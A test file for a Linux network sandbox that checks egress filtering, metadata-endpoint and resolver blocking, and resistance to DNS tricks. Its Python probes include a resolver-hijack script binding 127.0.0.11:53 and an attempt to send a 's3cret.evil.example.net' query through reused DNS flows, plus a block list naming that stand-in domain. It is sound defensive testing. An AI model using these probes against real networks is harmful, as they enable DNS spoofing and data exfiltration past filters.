import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { PROXY_IDS } from "../../../policy/reserved-ids.ts";
import { startNamespaceLab, type NamespaceLab } from "../../lab/namespace.ts";
import { lookUpAddress } from "./box-questions.ts";
import { type HeldBox, holdBox } from "./held-box.ts";
import { ADDRESS_WALL, readDecisions } from "./netns-box.ts";
import { parseOutcomes, reachArgv } from "./reach.ts";

// What is not the same in every box: report mode, the engine's resolver, questions on their way.

const LIST = { allowed: ["github.com", "chain.lab-names.example"], critical: ["github.com"] };
const EMPTY = ADDRESS_WALL;
const PYTHON = "/usr/bin/python3";
const ROOT = { uid: 0, gid: 0 };
const PRIVATE = "private.lab-names.example";
const NO_IPSET = { ipset: "#!/bin/sh\necho 'ipset: Cannot open session to kernel.' >&2\nexit 1\n" };

describe("a box", () => {
  let lab: NamespaceLab;
  beforeAll(async () => {
    lab = await startNamespaceLab();
  });
  afterEach(async () => {
    // What one row opens in nftables, the table that another has left there would refuse.
    await lab.exec(["nft", "delete table inet agentbox"]);
    await lab.control.reset();
  });
  afterAll(() => lab.stop());

  it("lets everything public through in report mode and writes it down; private addresses and resolvers stay refused", async () => {
    const sibling = await lab.addBox();
    const open = ["tcp:93.184.220.34:443", "tcp:[2606:2800:220:3::34]:443", "tcp:140.82.112.3:443"];
    const closed = ["tcp:10.1.2.3:443", "tcp:169.254.169.254:80", "tcp:[fd00:ec2::254]:80", "tcp:172.30.0.1:80", "tcp:8.8.8.8:53", "udp:8.8.8.8:53", "udp:[2001:4860:4860::8888]:53", "tcp:1.1.1.1:853"];
    const control = await sibling.exec(reachArgv([...open, ...closed]), { timeoutMs: 20_000 });
    expect(new Set(parseOutcomes(control.stdout).map(({ outcome }) => outcome))).toEqual(new Set(["connected"]));
    const policy = { ...EMPTY, report: true, blocks: [{ label: "config", words: [{ text: "*.evil.example.net" }] }] };
    const run = await holdBox(lab, { ...LIST, spec: { policy } }, async (box) => {
      expect(await reach(box, open)).toEqual(open.map(() => "connected"));
      expect(await reach(box, closed)).toEqual(closed.map((target) => (target.startsWith("tcp") ? "ECONNREFUSED" : "EPERM")));
      expect(await lookUpAddress(box, "example.com")).toMatch(/^0 93\.184\.220\.34/);
      expect(await lookUpAddress(box, "a.evil.example.net")).toBe("3");
      expect(await lookUpAddress(box, PRIVATE)).toBe("0");
      // The records of packets come by ulogd.
      await new Promise((resolve) => setTimeout(resolve, 1000));
    });
    const decisions = readDecisions(run);
    const about = (host: string) => decisions.filter((line) => line.host === host).map(({ protocol, action, port }) => `${protocol} ${action} ${port}`);
    expect(about("93.184.220.34")).toContain("address report 443");
    expect(about("example.com")).toContain("dns report null");
    expect(about("8.8.8.8")).toContain("address deny 53");
    expect(about("a.evil.example.net")).toEqual(["dns deny null"]);
  });

  it.each([
    ["iptables", {}],
    ["nftables", { replace: NO_IPSET }],
  ])("refuses the engine's resolver (a stand-in on 127.0.0.11) to everybody but its own, on every port, by %s", async (_case, backend) => {
    await holdBox(lab, { ...LIST, ...backend }, async (box) => {
      await using engine = await standIn(lab);
      const targets = ["udp:127.0.0.11:53", "tcp:127.0.0.11:53", "udp:127.0.0.11:40053", "tcp:127.0.0.11:40053"];
      await expect.poll(() => reach(box, targets.slice(0, 2), PROXY_IDS), { timeout: 6000 }).toEqual(["connected", "connected"]);
      for (const ids of [undefined, ROOT]) expect(await reach(box, targets, ids)).toEqual(["EPERM", "ECONNREFUSED", "EPERM", "ECONNREFUSED"]);
      // Without the engine's translation, port 53 is whoever's holds it.
      await engine.removeTranslation();
      for (const ids of [undefined, ROOT, PROXY_IDS]) expect(await reach(box, targets.slice(0, 2), ids)).toEqual(["EPERM", "ECONNREFUSED"]);
    });
  });

  it.each([
    ["iptables", {}],
    ["nftables", { replace: NO_IPSET }],
  ])("lets no program answer in the engine's place by making the question a reply within its own connection, by %s", async (_case, backend) => {
    await holdBox(lab, { ...LIST, ...backend }, async (box) => {
      await using _engine = await standIn(lab);
      const ask = async () => (await box.exec([PYTHON, "-c", ASK_FROM, "41999"], PROXY_IDS)).stdout.trim();
      await expect.poll(ask, { timeout: 8000 }).toBe("engine");
      const hijack = box.exec([PYTHON, "-c", HIJACK, "42000"]);
      await expect.poll(async () => (await lab.exec(["ss", "-Hltn", "sport = :53 and src 127.0.0.11"])).stdout, { timeout: 8000 }).not.toBe("");
      const heard = new Set<string>();
      for (let round = 0; round < 3; round += 1) heard.add((await box.exec([PYTHON, "-c", ASK_FROM, "42000"], PROXY_IDS)).stdout.trim());
      expect([...heard]).toEqual(["engine"]);
      // Its connections do not come into being, so that the kernel has none to take the question for a part of.
      expect((await hijack).stdout).not.toMatch(/connected|heard/);
    });
  });

  it.each([
    ["IPv4", "4"],
    ["IPv6", "6"],
  ] as const)("lets nobody continue what its resolver began over %s, by datagram or by stream", async (_family, family) => {
    const upstream = family === "4" ? lab.dns.v4 : lab.dns.v6;
    await lab.control.setDns({ "chain.lab-names.example": { truncate: true } });
    await holdBox(lab, { ...LIST, spec: { dns: { upstreams: [upstream] } } }, async (box) => {
      expect(await lookUpAddress(box, "chain.lab-names.example")).toMatch(/^0/);
      const { stdout } = await lab.exec(["conntrack", "-L", "-f", family === "4" ? "ipv4" : "ipv6"]);
      const flows = [...stdout.matchAll(/^(udp|tcp) .*? sport=(\d+) dport=53 /gm)].map(([, protocol = "", port = ""]) => `${protocol}:${port}`);
      expect(new Set(flows.map((flow) => flow.split(":")[0]))).toEqual(new Set(["udp", "tcp"]));
      const ask = (name: string, ids?: typeof ROOT) => box.exec([PYTHON, "-c", CONTINUE, upstream, name, ...flows, "udp:0", "tcp:0"], ids).then(({ stdout: said }) => said.trim().split(" "));
      for (const ids of [undefined, ROOT]) {
        const heard = await ask("s3cret.evil.example.net", ids);
        expect(heard).toHaveLength(flows.length + 2);
        expect(heard).not.toContain("answered");
        expect(heard).toContain("PermissionError");
        expect(heard).toContain("ConnectionRefusedError");
      }
      expect(await lab.control.questions({ name: "s3cret.evil.example.net" })).toEqual([]);
      // The same ports, the same question, from the resolver's own uid: it is the wall that stands in the way.
      const own = await ask("n0001.lab-names.example", PROXY_IDS);
      expect(own.filter((_, index) => flows[index]?.startsWith("udp") === true)).toContain("answered");
      expect(own.slice(-2)).toEqual(["answered", "answered"]);
    });
  });
});

async function reach(box: HeldBox, targets: readonly string[], ids?: typeof ROOT): Promise<string[]> {
  const { stdout } = await box.exec(reachArgv(targets), ids);
  return parseOutcomes(stdout).map(({ outcome }) => outcome);
}

const QUESTION = `
import socket, struct, sys
def question(name): return struct.pack("!HHHHHH", 4660, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", 1, 1)
`;

/** Asks an upstream from each PROTOCOL:PORT, 0 for any, and says what came of it. */
const CONTINUE = `${QUESTION}
target, name = sys.argv[1:3]
family = socket.AF_INET6 if ":" in target else socket.AF_INET
def attempt(protocol, port):
    s = socket.socket(family, socket.SOCK_DGRAM if protocol == "udp" else socket.SOCK_STREAM); s.settimeout(3)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        if port: s.bind(("", port))
        s.connect((target, 53)); q = question(name)
        s.send(q if protocol == "udp" else struct.pack("!H", len(q)) + q); s.recv(4096)
        return "answered"
    except OSError as error: return type(error).__name__
    finally: s.close()
print(*[attempt(flow.split(":")[0], int(flow.split(":")[1])) for flow in sys.argv[3:]])
`;

/** Docker's own resolver as it stands in a namespace: on another port, which the kernel puts in the place of 53. */
async function standIn(lab: NamespaceLab): Promise<AsyncDisposable & { removeTranslation: () => Promise<void> }> {
  const rules = ["udp", "tcp"].flatMap((protocol) => [
    ["OUTPUT", "-d", "127.0.0.11", "-p", protocol, "--dport", "53", "-j", "DNAT", "--to-destination", "127.0.0.11:40053"],
    ["POSTROUTING", "-s", "127.0.0.11", "-p", protocol, "--sport", "40053", "-j", "SNAT", "--to-source", ":53"],
  ]);
  const change = async (op: "-A" | "-D"): Promise<void> => {
    for (const rule of rules) await lab.exec(["iptables", "-w", "-t", "nat", op, ...rule]);
  };
  await change("-A");
  let present = true;
  const removeTranslation = async (): Promise<void> => {
    if (present) await change("-D");
    present = false;
  };
  const server = lab.exec([PYTHON, "-c", ENGINE]);
  return {
    removeTranslation,
    [Symbol.asyncDispose]: async () => {
      await removeTranslation();
      await server;
    },
  };
}

/** Says "engine" to whom asks, for a few seconds, where Docker's own resolver listens. */
const ENGINE = `
import select, socket, time
sockets = []
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.11", 40053)); sockets.append(s)
    if kind == socket.SOCK_STREAM: s.listen()
deadline = time.time() + 9
while time.time() < deadline:
    for s in select.select(sockets, [], [], 0.2)[0]:
        if s.type == socket.SOCK_STREAM: c = s.accept()[0]; c.send(b"engine"); c.close()
        else: data, source = s.recvfrom(4096); s.sendto(data, source)
`;

/** Asks the engine's resolver from a port of its own and says who answers. */
const ASK_FROM = `
import socket, sys
s = socket.socket(); s.settimeout(3); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\\1\\0\\0\\0\\0\\0\\0\\0")
try: s.bind(("127.0.0.1", int(sys.argv[1]))); s.connect(("127.0.0.11", 53)); print(s.recv(64).decode())
except OSError as error: print(type(error).__name__)
`;

/** Has had a connection from port 53 of the engine's address to the port that the question will come from, and answers there for some seconds. */
const HIJACK = `
import socket, sys, time
def take():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(("127.0.0.11", 53)); return s
for _ in range(3):
    goal = socket.socket(); goal.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); goal.bind(("127.0.0.1", int(sys.argv[1]))); goal.listen(1)
    s = take(); s.settimeout(1)
    try: s.connect(("127.0.0.1", int(sys.argv[1]))); print("connected")
    except OSError as error: print(type(error).__name__)
    s.close(); goal.close()
listener = take(); listener.listen(64); listener.settimeout(4)
try:
    while True: c = listener.accept()[0]; c.send(b"hijacked"); c.close(); print("heard")
except TimeoutError: pass
`;
